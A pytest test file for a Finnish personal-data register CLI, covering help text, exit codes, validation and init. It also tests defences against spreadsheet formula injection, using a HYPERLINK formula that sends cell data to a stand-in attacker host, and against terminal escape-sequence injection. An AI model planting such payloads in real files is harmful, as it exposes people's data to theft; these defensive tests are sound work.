"""The command line: help for every command, exit codes, located diagnostics, never a traceback."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import textwrap
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import tomli_w
import typer
from typer.testing import CliRunner

from rekisteri import __version__, load_register
from rekisteri.cli import app

ROOT = Path(__file__).resolve().parents[2]
MODERN_EXAMPLE = ROOT / "examples" / "terhi-kallio" / "register.toml"
LEGACY_EXAMPLE = ROOT / "examples" / "terhi-kallio" / "rekisteriseloste-2018.toml"
CONSOLE_SCRIPT = Path(sys.executable).parent / "rekisteri"

runner = CliRunner()

BAD_REGISTER = textwrap.dedent(
    """\
    name = "Asiakasrekisteri"
    schema_version = 2
    [notice]
    languages = ["fi"]

    [controller]
    name = "Tmi Testi"
    email = "not-an-email"

    [[purposes]]
    id = "care"
    name = "Hoito"
    legal_basis = "contrct"

    [[data_categories]]
    id = "contact"
    name = "Yhteystiedot"
    purposes = ["care"]
    """
)

INIT_OPTIONS = ["--controller", "Tmi Testi", "--contact", "Maija Meikäläinen"]
INIT_EMAIL = ["--email", "maija@example.fi"]


def all_commands() -> Iterator[tuple[list[str], Any]]:
    """Every command and group under the app, as (argv prefix, command), found by walking it.

    Commands added by later issues are covered without touching this test.
    """
    root = typer.main.get_command(app)
    todo: list[tuple[list[str], Any]] = [([], root)]
    while todo:
        argv, command = todo.pop()
        yield argv, command
        subcommands = getattr(command, "commands", None) or {}
        todo += [([*argv, name], sub) for name, sub in subcommands.items()]


COMMANDS = sorted(all_commands(), key=lambda item: item[0])


def no_traceback(text: str) -> None:
    assert "Traceback" not in text
    assert 'File "' not in text


# -- help and version -----------------------------------------------------------------------


def test_the_foundation_commands_are_registered() -> None:
    names = {" ".join(argv) for argv, _ in COMMANDS}
    assert {"validate", "schema", "init"} <= names


@pytest.mark.parametrize(
    "argv, command", COMMANDS, ids=[" ".join(argv) or "rekisteri" for argv, _ in COMMANDS]
)
def test_every_command_has_help_text(argv: list[str], command: Any) -> None:
    assert (command.help or "").strip(), f"'rekisteri {' '.join(argv)}' has no help text"
    for param in command.params:
        assert (getattr(param, "help", None) or "").strip(), f"{argv}: {param.name} has no help"
    result = runner.invoke(app, [*argv, "--help"])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("Usage: rekisteri")
    assert command.help.strip().split("\n")[0][:40] in " ".join(result.output.split())


@pytest.mark.parametrize(
    "argv, command", COMMANDS, ids=[" ".join(argv) or "rekisteri" for argv, _ in COMMANDS]
)
def test_help_reads_as_people_expect(argv: list[str], command: Any) -> None:
    """-h is --help; the usage line names arguments in capitals; a command's short help in
    the list is a whole sentence, never cut at an abbreviation such as "Art." (issue 16)."""
    short = runner.invoke(app, [*argv, "-h"])
    assert short.exit_code == 0, short.output
    assert short.output == runner.invoke(app, [*argv, "--help"]).output
    usage = short.output.splitlines()[0]
    assert "{" not in usage and "<" not in usage and "list[" not in usage, usage
    for word in usage.split()[2:]:
        assert (
            word.startswith("[")
            or word.isupper()
            or word.rstrip(".").isupper()
            or (word in [*argv, "COMMAND"])
        ), usage
    summary = command.get_short_help_str(limit=200)
    if summary:
        assert summary.endswith((".", ")")), summary
        assert not re.search(r"\b(Art|e\.g|i\.e|etc|ks|vrt)\.$", summary), summary


@pytest.mark.parametrize(
    "argv",
    [argv for argv, command in COMMANDS if getattr(command, "commands", None)],
    ids=lambda argv: " ".join(argv) or "rekisteri",
)
def test_the_command_list_cuts_no_summary_on_an_80_column_terminal(argv: list[str]) -> None:
    """Click cuts a command's summary that does not fit with "..."; each is written to fit
    (issue 16: "short help never cut mid-sentence")."""
    result = runner.invoke(app, [*argv, "--help"], terminal_width=80)
    listing = result.output.split("Commands:\n", 1)[1]
    assert listing.strip()
    for line in listing.splitlines():
        assert not line.endswith("..."), line
        assert line.rstrip().endswith("."), line


def test_version() -> None:
    result = runner.invoke(app, ["--version"])
    assert result.exit_code == 0
    assert result.stdout == f"rekisteri {__version__}\n"


def test_the_entry_point_answers_version_before_loading_typer() -> None:
    """Issue 17: `rekisteri --version` prints what Typer's option prints, and loads neither
    Typer nor the commands; anything more goes to Typer as before."""
    import subprocess
    import sys

    probe = (
        "import sys\nfrom rekisteri.cli import main\nsys.argv = ['rekisteri', *sys.argv[1:]]\n"
        "main()\nprint(sorted(m for m in ('typer', 'rekisteri.cli.commands') if m in sys.modules))"
    )
    fast = subprocess.run(
        [sys.executable, "-c", probe, "--version"], capture_output=True, text=True, check=True
    )
    assert fast.stdout == f"rekisteri {__version__}\n[]\n"
    slow = subprocess.run(
        [sys.executable, "-c", probe, "--version", "-q"], capture_output=True, text=True
    )
    assert slow.stdout.startswith(f"rekisteri {__version__}\n")
    assert slow.returncode == 0


def test_no_arguments_shows_the_commands() -> None:
    result = runner.invoke(app, [])
    assert result.exit_code in (0, 2)
    assert "validate" in result.output and "init" in result.output


# -- validate -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [MODERN_EXAMPLE, LEGACY_EXAMPLE], ids=lambda p: p.name)
def test_validate_accepts_the_examples(path: Path) -> None:
    result = runner.invoke(app, ["validate", str(path)])
    assert result.exit_code == 0, result.output
    assert "kelvollinen rekisteri" in result.stdout  # in the register's own language
    assert result.stderr == ""


def test_validate_reports_located_diagnostics_and_exits_1(
    write_register: Callable[[str], Path],
) -> None:
    path = write_register(BAD_REGISTER)
    result = runner.invoke(app, ["validate", str(path)])
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.splitlines() == [
        f"{path}:8:1: controller.email: 'not-an-email' is not an email address like "
        "name@example.fi",
        f"{path}:13:1: purposes[0].legal_basis: 'contrct' is not one of consent, contract, "
        "legal_obligation, vital_interests, public_task, legitimate_interests",
        "    hint: did you mean 'contract'?",
    ]


def test_validate_json_diagnostics(write_register: Callable[[str], Path]) -> None:
    path = write_register(BAD_REGISTER)
    result = runner.invoke(app, ["validate", "--format", "json", str(path)])
    assert result.exit_code == 1
    payload = json.loads(result.stdout)
    assert payload["ok"] is False
    for diagnostic in payload["diagnostics"]:
        assert {"file", "line", "column", "path", "message", "hint"} <= set(diagnostic)
    enum = payload["diagnostics"][1]
    assert enum["file"] == str(path)
    assert (enum["line"], enum["column"]) == (13, 1)
    assert enum["path"] == "purposes[0].legal_basis"
    assert enum["message"].startswith("'contrct' is not one of consent, contract")
    assert enum["hint"] == "did you mean 'contract'?"


def test_validate_json_for_a_file_that_cannot_be_read(tmp_path: Path) -> None:
    result = runner.invoke(app, ["validate", "--format", "json", str(tmp_path / "x.toml")])
    assert result.exit_code == 1
    (diagnostic,) = json.loads(result.stdout)["diagnostics"]
    assert diagnostic["file"] == str(tmp_path / "x.toml")
    assert diagnostic["line"] is None
    assert diagnostic["message"] == "no such file"


def test_validate_json_on_success() -> None:
    result = runner.invoke(app, ["validate", "--format", "json", str(MODERN_EXAMPLE)])
    assert result.exit_code == 0
    assert json.loads(result.stdout) == {"ok": True, "diagnostics": [], "lint": []}


def test_validate_shows_lint_findings_but_exits_zero_for_an_old_notice() -> None:
    legacy = MODERN_EXAMPLE.parent / "rekisteriseloste-2018.toml"
    result = runner.invoke(app, ["validate", "--lang", "en", str(legacy)])
    assert result.exit_code == 0, result.output
    assert "valid register" in result.stdout
    assert "L08 error" in result.stdout
    payload = json.loads(runner.invoke(app, ["validate", "--format", "json", str(legacy)]).stdout)
    assert payload["ok"] is True
    assert {"L02", "L08", "L09"} <= {finding["rule"] for finding in payload["lint"]}


def test_lint_command_exit_codes_and_formats() -> None:
    legacy = MODERN_EXAMPLE.parent / "rekisteriseloste-2018.toml"
    assert runner.invoke(app, ["lint", str(MODERN_EXAMPLE), "--strict"]).exit_code == 0
    failed = runner.invoke(app, ["lint", str(legacy), "--lang", "fi"])
    assert failed.exit_code == 1
    assert "henkilötietolaki (523/1999)" in failed.stdout
    sarif = json.loads(runner.invoke(app, ["lint", str(legacy), "--format", "sarif"]).stdout)
    assert sarif["version"] == "2.1.0"
    findings = json.loads(runner.invoke(app, ["lint", str(legacy), "--format", "json"]).stdout)
    assert findings["findings"]


def test_lint_command_fails_on_a_warning_only_with_strict(tmp_path: Path) -> None:
    # The library only says whether the report fails; the exit code is the command's mapping.
    data = tomllib.loads(MODERN_EXAMPLE.read_text(encoding="utf-8"))
    del data["purposes"][0]["consequences"]  # L02, a warning
    register = tmp_path / "register.toml"
    register.write_text(tomli_w.dumps(data), encoding="utf-8")
    lenient = runner.invoke(app, ["lint", str(register)])
    assert lenient.exit_code == 0 and "L02" in lenient.stdout
    assert runner.invoke(app, ["lint", str(register), "--strict"]).exit_code == 1


def test_diff_command(tmp_path: Path) -> None:
    legacy = MODERN_EXAMPLE.parent / "rekisteriseloste-2018.toml"
    same = runner.invoke(app, ["diff", str(MODERN_EXAMPLE), str(MODERN_EXAMPLE), "--lang", "en"])
    assert same.exit_code == 0
    assert same.stdout == "No changes.\n"
    changed = runner.invoke(app, ["diff", str(legacy), str(MODERN_EXAMPLE), "--format", "json"])
    assert changed.exit_code == 0
    assert any(
        c["message"] == "Käsittelyn tarkoitus ”Laskutus, perintä ja kirjanpito” lisättiin."
        for c in json.loads(changed.stdout)["changes"]
    )
    html = runner.invoke(app, ["diff", str(legacy), str(MODERN_EXAMPLE), "--format", "html"])
    assert "<aside" in html.stdout
    fi_only = tmp_path / "fi.toml"
    fi_only.write_text(
        MODERN_EXAMPLE.read_text(encoding="utf-8").replace(
            'languages = ["fi", "en"]', 'languages = ["fi"]'
        ),
        encoding="utf-8",
    )
    refused = runner.invoke(app, ["diff", str(MODERN_EXAMPLE), str(fi_only)])
    assert refused.exit_code == 1
    assert "different languages" in refused.output


def test_export_jsonld_and_record_commands(tmp_path: Path) -> None:
    exported = runner.invoke(app, ["export", str(MODERN_EXAMPLE)])
    assert exported.exit_code == 0
    assert "https://w3id.org/dpv#" in json.loads(exported.stdout)["@context"].values()
    legacy = MODERN_EXAMPLE.parent / "rekisteriseloste-2018.toml"
    out = tmp_path / "record"
    made = runner.invoke(
        app, ["record", str(MODERN_EXAMPLE), str(legacy), "-o", str(out), "--format", "html,csv"]
    )
    assert made.exit_code == 0, made.output
    assert sorted(p.name for p in out.iterdir()) == [
        "seloste-kasittelytoimista.en.csv",
        "seloste-kasittelytoimista.en.html",
        "seloste-kasittelytoimista.fi.csv",
        "seloste-kasittelytoimista.fi.html",
    ]
    other = tmp_path / "other.toml"
    other.write_text(
        MODERN_EXAMPLE.read_text(encoding="utf-8").replace(
            'name = "Tmi Terhi Kallio"', 'name = "Muu Oy"', 1
        ),
        encoding="utf-8",
    )
    refused = runner.invoke(app, ["record", str(MODERN_EXAMPLE), str(other), "-o", str(out)])
    assert refused.exit_code == 1
    assert "Muu Oy" in refused.output


@pytest.mark.parametrize(
    "argv",
    [
        ["validate"],
        ["validate", "--format", "xml", "register.toml"],
        ["validate", "--bogus", "register.toml"],
        ["no-such-command"],
        ["init"],
    ],
    ids=["missing argument", "bad choice", "unknown option", "unknown command", "init no path"],
)
def test_usage_errors_exit_2(argv: list[str]) -> None:
    result = runner.invoke(app, argv)
    assert result.exit_code == 2
    assert "Usage: rekisteri" in result.output
    no_traceback(result.output)


BAD_FILES: dict[str, bytes | None] = {
    "missing": None,
    "empty": b"",
    "latin-1": 'name = "Hyvinkää"\n'.encode("latin-1"),
    "nul": b"name = 'x'\x00\n",
    "syntax": b"name = \n",
    "deep": b"a = " + b"[" * 100_000,
    "long number": b"a = 1" + b"0" * 5000,
    "huge": b"#" * (2 * 1024 * 1024),
    "not a register": b"[tool.poetry]\nname = 'x'\n",
}


@pytest.mark.parametrize("content", BAD_FILES.values(), ids=list(BAD_FILES))
def test_bad_input_never_gives_a_traceback(tmp_path: Path, content: bytes | None) -> None:
    path = tmp_path / "register.toml"
    if content is not None:
        path.write_bytes(content)
    for output in ("text", "json"):
        result = runner.invoke(app, ["validate", "--format", output, str(path)])
        assert result.exit_code == 1, result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        no_traceback(result.output)
        assert str(path) in result.output


def test_a_folder_is_refused(tmp_path: Path) -> None:
    result = runner.invoke(app, ["validate", str(tmp_path)])
    assert result.exit_code == 1
    assert "is a folder, not a register file" in result.stderr


# -- the real executable --------------------------------------------------------------------


def run(*argv: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(
        argv, capture_output=True, text=True, cwd=cwd, env=env, timeout=60, check=False
    )


def test_console_script_validates_an_example() -> None:
    result = run(str(CONSOLE_SCRIPT), "validate", str(MODERN_EXAMPLE))
    assert result.returncode == 0, result.stderr
    assert "kelvollinen rekisteri" in result.stdout


def test_a_version_1_file_is_refused_with_the_command_that_migrates_it(
    tmp_path: Path,
) -> None:
    path = tmp_path / "old.toml"
    path.write_text(BAD_REGISTER.replace("schema_version = 2\n", "\n"), encoding="utf-8")
    result = runner.invoke(app, ["validate", str(path)])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{path}:1: this register is written in version 1 of the register format; version 2 "
        "says only what the file states, so a version-1 file is not read as version 2"
    )
    assert f"hint: run 'rekisteri migrate {path}' to rewrite it as version 2" in result.stderr


def test_module_entry_point_reports_bad_input_without_traceback(
    write_register: Callable[[str], Path],
) -> None:
    path = write_register(BAD_REGISTER)
    result = run(sys.executable, "-m", "rekisteri", "validate", str(path))
    assert result.returncode == 1
    assert f"{path}:13:1: purposes[0].legal_basis: 'contrct'" in result.stderr
    no_traceback(result.stderr + result.stdout)


def test_console_script_usage_error_exits_2() -> None:
    result = run(str(CONSOLE_SCRIPT), "validate")
    assert result.returncode == 2
    no_traceback(result.stderr)


# -- init -----------------------------------------------------------------------------------


def test_init_writes_a_register_that_validates(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(app, ["init", str(path), "--no-input", *INIT_OPTIONS, *INIT_EMAIL])
    assert result.exit_code == 0, result.output
    assert str(path) in result.stdout
    text = path.read_text(encoding="utf-8")
    first = text.splitlines()[0]
    assert first.startswith("#:schema ")
    # A copy of the schema beside the register, named relatively: it survives a moved or
    # deleted virtual environment, and the folder can be sent to someone else as it is.
    assert first == "#:schema .rekisteri/register.schema.json"
    copy = tmp_path / ".rekisteri" / "register.schema.json"
    assert copy.read_bytes() == (ROOT / "schemas" / "register.schema.json").read_bytes()
    register = load_register(path)
    assert register.languages == ["fi", "en"]
    assert register.controller.name == "Tmi Testi"
    assert register.contact is not None and register.contact.name == "Maija Meikäläinen"
    assert register.controller.email == "maija@example.fi"
    assert runner.invoke(app, ["validate", str(path)]).exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [".rekisteri", "register.toml"]
    # A version-2 file that says only what was answered: the format first, and no section
    # stated on the owner's behalf (no "none", no retention period, no rights).
    keys = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert keys[0] == "schema_version = 2"
    data = tomllib.loads(text)
    for section in (
        "recipients",
        "processors",
        "transfers",
        "automated_decisions",
        "direct_marketing",
        "cookies",
        "retention",
        "security",
        "rights",
        "sources",
    ):
        assert section not in data, section
    assert "none" not in text
    assert [set(p) for p in data["purposes"]] == [{"id", "name"}]
    assert "retention" not in data["data_categories"][0]


@pytest.mark.parametrize(
    "languages, expected",
    [("fi", ["fi"]), ("fi,en,sv", ["fi", "en", "sv"]), ("en, fi", ["en", "fi"])],
)
def test_init_languages(tmp_path: Path, languages: str, expected: list[str]) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(
        app,
        ["init", str(path), "--no-input", *INIT_OPTIONS, *INIT_EMAIL, "--languages", languages],
    )
    assert result.exit_code == 0, result.output
    register = load_register(path)
    assert register.languages == expected
    assert register.default_language == expected[0]
    assert set(register.name.values) == set(expected)


def test_init_takes_the_register_name_and_phone(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(
        app,
        [
            "init",
            str(path),
            "--no-input",
            *INIT_OPTIONS,
            *INIT_EMAIL,
            "--name",
            "Jäsenrekisteri",
            "--phone",
            "045 127 0888",
            "--languages",
            "fi",
        ],
    )
    assert result.exit_code == 0, result.output
    register = load_register(path)
    assert register.name.get("fi") == "Jäsenrekisteri"
    assert register.controller.phone == "045 127 0888"


def test_init_refuses_to_overwrite(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    path.write_text("# my own register\n", encoding="utf-8")
    before = path.stat()
    result = runner.invoke(app, ["init", str(path), "--no-input", *INIT_OPTIONS, *INIT_EMAIL])
    assert result.exit_code == 1
    assert "already exists" in result.output
    assert path.read_text(encoding="utf-8") == "# my own register\n"
    assert path.stat().st_mtime_ns == before.st_mtime_ns
    assert sorted(p.name for p in tmp_path.iterdir()) == ["register.toml"]


def test_init_refuses_an_invalid_email_and_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(
        app, ["init", str(path), "--no-input", *INIT_OPTIONS, "--email", "maija.example.fi"]
    )
    assert result.exit_code == 1
    assert "'maija.example.fi' is not an email address" in result.stderr
    # Reported once, though the answer fills both the controller's and the contact's email, and
    # without line numbers of a file that does not exist.
    assert result.stderr.count("is not an email address") == 1
    assert f"{path}: 'maija.example.fi'" in result.stderr
    assert "nothing was written" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_init_refuses_an_unknown_language(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(
        app,
        ["init", str(path), "--no-input", *INIT_OPTIONS, *INIT_EMAIL, "--languages", "fi,de"],
    )
    assert result.exit_code in (1, 2)
    assert "'de'" in result.output
    assert list(tmp_path.iterdir()) == []
    no_traceback(result.output)


def test_init_without_input_needs_the_essentials(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(app, ["init", str(path), "--no-input", *INIT_OPTIONS])
    assert result.exit_code == 2
    assert "--email" in result.output
    assert not path.exists()


def test_init_into_a_missing_folder(tmp_path: Path) -> None:
    path = tmp_path / "nowhere" / "register.toml"
    result = runner.invoke(app, ["init", str(path), "--no-input", *INIT_OPTIONS, *INIT_EMAIL])
    assert result.exit_code == 1
    no_traceback(result.output)
    assert not path.parent.exists()


def test_init_asks_interactively(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    answers = "Tmi Terhi Kallio\nTerhi Kallio\nterhi.kallio@outlook.com\n\n\n"
    result = runner.invoke(app, ["init", str(path)], input=answers)
    assert result.exit_code == 0, result.output
    assert "Business or association name" in result.output
    assert "Contact person" in result.output
    assert "Email address" in result.output
    assert "Register name" in result.output
    assert "Notice languages [fi,en]" in result.output
    register = load_register(path)
    assert register.controller.name == "Tmi Terhi Kallio"
    assert register.contact is not None and register.contact.email == "terhi.kallio@outlook.com"
    assert register.languages == ["fi", "en"]
    assert register.name.get("fi") == "Tmi Terhi Kallio asiakasrekisteri"


def test_init_asks_register_name_and_languages(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    answers = "Parturi Testi\nTiina Testi\ntiina@example.fi\nAsiakkaat\nfi\n"
    result = runner.invoke(app, ["init", str(path)], input=answers)
    assert result.exit_code == 0, result.output
    register = load_register(path)
    assert register.languages == ["fi"]
    assert register.name.get("fi") == "Asiakkaat"


def test_init_interactive_answers_fill_in_only_what_options_lack(tmp_path: Path) -> None:
    path = tmp_path / "register.toml"
    result = runner.invoke(app, ["init", str(path), *INIT_OPTIONS], input="maija@example.fi\n\n\n")
    assert result.exit_code == 0, result.output
    assert "Business or association name" not in result.output
    assert load_register(path).controller.email == "maija@example.fi"


# -- what people's tools interpret: spreadsheets, logs, terminals ---------------------------

ESC = "\x1b"


def _store(demo_path: Path, *statements: str) -> None:
    connection = sqlite3.connect(demo_path.with_name("asiakkaat.sqlite"))
    for statement in statements:
        connection.execute(statement)
    connection.commit()
    connection.close()


def test_bundle_csv_cells_are_text_in_a_spreadsheet(demo_path: Path, tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Avaa")'
    _store(
        demo_path,
        f"UPDATE clients SET street = '{hyperlink.replace(chr(39), chr(39) * 2)}', "
        "postal_code = '@SUM(1+1)', city = '-2+3' WHERE id = 1",
        "UPDATE appointments SET minutes = -5, service = '+thing' WHERE client_id = 1",
    )
    out = tmp_path / "bundle"
    result = runner.invoke(
        app,
        ["access", str(demo_path), "--id", "1", "-o", str(out), "--format", "json,csv",
         "--release", "health"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    contact = (out / "csv" / "contact-details.csv").read_text(encoding="utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(contact, newline="")))
    # The headers are the mapping's labels in the register's default language.
    assert (row["Katuosoite"], row["Postinumero"], row["Postitoimipaikka"]) == (
        "'" + hyperlink,
        "'@SUM(1+1)",
        "'-2+3",
    )
    rows = list(
        csv.DictReader(io.StringIO((out / "csv" / "appointments.csv").read_text("utf-8-sig")))
    )
    booked = [r for r in rows if r.get("Palvelu") == "'+thing"]
    assert booked and all(r["Kesto (min)"] == "-5" for r in booked)  # a number stays a number
    data = json.loads((out / "data.json").read_text(encoding="utf-8"))
    [category] = [c for c in data["categories"] if c["id"] == "contact-details"]
    assert category["sources"][0]["rows"][0]["street"] == hyperlink  # JSON keeps the raw value


SECRET_URL = "postgresql://u:p@ss@127.0.0.1:1/x?password=secret"


@pytest.mark.parametrize(
    "argv",
    [
        ["store", "check", "{register}"],
        ["store", "check", "{register}", "--format", "json"],
        ["retention", "{register}"],
        ["retention", "{register}", "--format", "json"],
        ["retention", "{register}", "--format", "csv"],
        ["access", "{register}", "--id", "1", "-o", "{out}"],
        ["marketing", "{register}", "--channel", "email"],
        ["feedback", "{register}"],
    ],
    ids=lambda argv: " ".join(a for a in argv if "{" not in a),
)
@pytest.mark.parametrize("where", ["environment", "register"])
def test_a_store_password_is_never_shown(
    demo_path: Path, tmp_path: Path, argv: list[str], where: str
) -> None:
    env = {"REKISTERI_STORE_URL": SECRET_URL}
    if where == "register":
        text = demo_path.read_text(encoding="utf-8")
        demo_path.write_text(text.replace('url = "asiakkaat.sqlite"', f'url = "{SECRET_URL}"'))
        env = {"REKISTERI_STORE_URL": ""}
    args = [a.format(register=demo_path, out=tmp_path / "out") for a in argv]
    result = runner.invoke(app, args, env=env)
    assert result.exit_code == 1, result.output
    assert "p@ss" not in result.output and "secret" not in result.output
    assert "ss@" not in result.output  # nor what follows the '@' in the password
    assert "127.0.0.1" in result.output  # the host, to check
    no_traceback(result.output)
    assert not (tmp_path / "out").exists()


def test_a_url_that_cannot_be_read_hides_its_password(demo_path: Path) -> None:
    env = {"REKISTERI_STORE_URL": "postgresql://u:p@ss@h:port/x?password=secret"}
    result = runner.invoke(app, ["store", "check", str(demo_path)], env=env)
    assert result.exit_code == 1 and "is not a database URL" in result.output
    assert "p@ss" not in result.output and "secret" not in result.output


def test_control_characters_in_arguments_are_escaped(demo_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = runner.invoke(
        app, ["access", str(demo_path), "--email", f"{ESC}[2J{ESC}]0;x\x07", "-o", str(out)]
    )
    assert result.exit_code == 1, result.output
    assert ESC not in result.output and "\x07" not in result.output
    assert "\\x1b[2J\\x1b]0;x\\x07" in result.output
    missing = tmp_path / f"r{ESC}[31m\x9b.toml"
    for output in ("text", "json"):
        result = runner.invoke(app, ["validate", "--format", output, str(missing)])
        assert result.exit_code == 1 and ESC not in result.output and "\x9b" not in result.output
    assert json.loads(result.stdout)["diagnostics"][0]["file"] == str(missing)  # JSON: lossless


def test_control_characters_from_the_store_are_escaped(demo_path: Path, tmp_path: Path) -> None:
    _store(
        demo_path,
        "UPDATE clients SET first_name = 'Ai' || char(27) || '[2J' || char(155) || 'no', "
        "email = 'sama@example.com' WHERE id IN (1, 2)",
    )
    result = runner.invoke(
        app, ["access", str(demo_path), "--email", "sama@example.com", "-o", str(tmp_path / "o")]
    )
    assert result.exit_code == 3, result.output  # two people match: they are listed
    assert ESC not in result.output and "\x9b" not in result.output
    assert "Ai\\x1b[2J\\x9bno" in result.output


def test_control_characters_in_the_request_log_are_escaped(demo_path: Path) -> None:
    log = ["--log", str(demo_path.with_name("log.sqlite"))]
    subject = f"Aino {ESC}[2J\x9b V"
    added = ["requests", "add", str(demo_path), "--type", "access", "--subject", subject]
    result = runner.invoke(app, [*added, "--received", "2025-05-20", *log])
    assert result.exit_code == 0, result.output
    outputs = []
    for argv in (
        ["requests", "list", str(demo_path), "--all", "--lang", "en"],
        ["requests", "list", str(demo_path), "--format", "json"],
        ["requests", "export", str(demo_path), "--format", "json"],
        [
            "requests",
            "close",
            str(demo_path),
            "1",
            "--outcome",
            f"Vastattu {ESC}[31m",
            "--lang",
            "en",
        ],
    ):
        result = runner.invoke(app, [*argv, *log])
        assert result.exit_code == 0, result.output
        assert ESC not in result.output and "\x9b" not in result.output, argv
        outputs.append(result.stdout)
    assert "Aino \\x1b[2J\\x9b V" in outputs[0] and "Vastattu \\x1b[31m" in outputs[3]
    assert json.loads(outputs[1])[0]["subject"] == subject  # JSON: the same value, escaped
    assert json.loads(outputs[2])[0]["subject"] == subject


@pytest.mark.parametrize(
    "argv",
    [
        ["lint", "x", "--format", "nope"],
        ["render", "{register}", "-o", "{out}", "--format", "html,nope"],
        ["record", "{register}", "-o", "{out}", "--format", "nope"],
        ["access", "{register}", "-o", "{out}", "--id", "1", "--format", "nope"],
        ["access", "{register}", "-o", "{out}", "--all", "--email", "a@example.com"],
        ["access", "{register}", "-o", "{out}", "--request", "1", "--all"],
        ["access", "{register}", "-o", "{out}", "--request", "1", "--ref", "R-1"],
        ["access", "{register}", "-o", "{out}"],
        ["access", "{register}", "-o", "{out}", "--email", "a@example.com", "--id", "1"],
        ["access", "{register}", "-o", "{out}", "--name", "Aino Virtanen"],
        ["retention", "{register}", "--format", "xlsx"],
        ["requests", "export", "{register}", "--format", "xlsx"],
    ],
    ids=[
        "lint format", "render format", "record format", "access format", "all with email",
        "request with all", "request with ref", "no identifier", "two identifiers",
        "name without birth date", "retention format", "export format",
    ],
)  # fmt: skip
def test_usage_errors_of_the_commands_exit_2(
    demo_path: Path, tmp_path: Path, argv: list[str]
) -> None:
    out = tmp_path / "out"
    result = runner.invoke(app, [a.format(register=demo_path, out=out) for a in argv])
    assert result.exit_code == 2, result.output
    assert "Usage: rekisteri" in result.output
    no_traceback(result.output)
    assert not out.exists()


def test_the_format_choices_are_the_librarys() -> None:
    from rekisteri.access import bundle
    from rekisteri.cli import commands as cli
    from rekisteri.notice import render as notice
    from rekisteri.record import record

    assert cli.NOTICE_FORMATS == notice.FORMATS
    assert cli.RECORD_FORMATS == record.FORMATS
    assert cli.BUNDLE_FORMATS == bundle.FORMATS


def test_a_missing_request_log_is_named_with_the_command_that_starts_one(tmp_path: Path) -> None:
    # The library says only "record a request first"; the command that does it is the CLI's word.
    log = tmp_path / "requests.sqlite"
    common = ["--log", str(log)]
    extend = runner.invoke(
        app, ["requests", "extend", str(MODERN_EXAMPLE), "5", "--reason", "x", *common]
    )
    assert extend.exit_code == 1
    assert extend.stderr == (
        f"{log}: there is no request log yet; record a request first with "
        "'rekisteri requests add'\n"
    )
    access = runner.invoke(
        app,
        [
            "access",
            str(MODERN_EXAMPLE),
            "--email",
            "a@b.fi",
            "--request",
            "3",
            *common,
            "--output",
            str(tmp_path / "out"),
        ],
    )
    assert access.exit_code == 1
    assert access.stderr == (
        f"{log}: there is no request log yet; record the request first with "
        "'rekisteri requests add'\n"
    )
    assert not log.exists()


def test_schema_write_refreshes_the_copy_an_editor_reads(tmp_path: Path) -> None:
    copy = tmp_path / ".rekisteri" / "register.schema.json"
    copy.parent.mkdir()
    copy.write_text("{}", encoding="utf-8")  # a copy from an older rekisteri
    result = runner.invoke(app, ["schema", "--write", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert copy.read_bytes() == (ROOT / "schemas" / "register.schema.json").read_bytes()
    assert str(copy) in result.output
    result = runner.invoke(app, ["schema", "--write", str(tmp_path / "missing")])
    assert result.exit_code == 1 and "no such folder" in result.output


# pydantic is not among them: the register model is made of it, and Typer builds its
# parameters with it.
HEAVY = ("weasyprint", "sqlalchemy", "jinja2", "babel")


def _run_cli(argv: list[str], env: dict[str, str] | None = None) -> tuple[str, list[str]]:
    """The CLI run in a fresh interpreter: what it printed, and which heavy modules it loaded."""
    import subprocess
    import sys

    script = (
        "import sys\n"
        "from rekisteri.cli import main\n"
        f"sys.argv = ['rekisteri', *{argv!r}]\n"
        "try:\n    main()\nexcept SystemExit:\n    pass\n"
        f"print('LOADED', sorted(m for m in {HEAVY!r} if m in sys.modules), file=sys.stderr)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
    )
    loaded = done.stderr.rsplit("LOADED ", 1)[1].strip()
    return done.stdout, eval(loaded)  # a list literal printed by the script above


def test_shell_completion_names_commands_and_options_without_loading_the_heavy_modules() -> None:
    script, loaded = _run_cli(["--show-completion", "bash"])
    assert "_rekisteri_completion" in script and "complete " in script
    assert loaded == []
    words, loaded = _run_cli(
        [],
        {"_REKISTERI_COMPLETE": "complete_bash", "COMP_WORDS": "rekisteri val", "COMP_CWORD": "1"},
    )
    assert words.split() == ["validate"]
    assert loaded == []
    words, _ = _run_cli(
        [],
        {
            "_REKISTERI_COMPLETE": "complete_bash",
            "COMP_WORDS": "rekisteri access register.toml --for",
            "COMP_CWORD": "3",
        },
    )
    assert words.split() == ["--format"]
    for shell in ("zsh", "fish"):
        script, _ = _run_cli(["--show-completion", shell])
        assert "rekisteri" in script


def test_help_loads_none_of_the_heavy_modules() -> None:
    for argv in (["--help"], ["-h"], ["--version"], ["validate", "-h"]):
        _, loaded = _run_cli(argv)
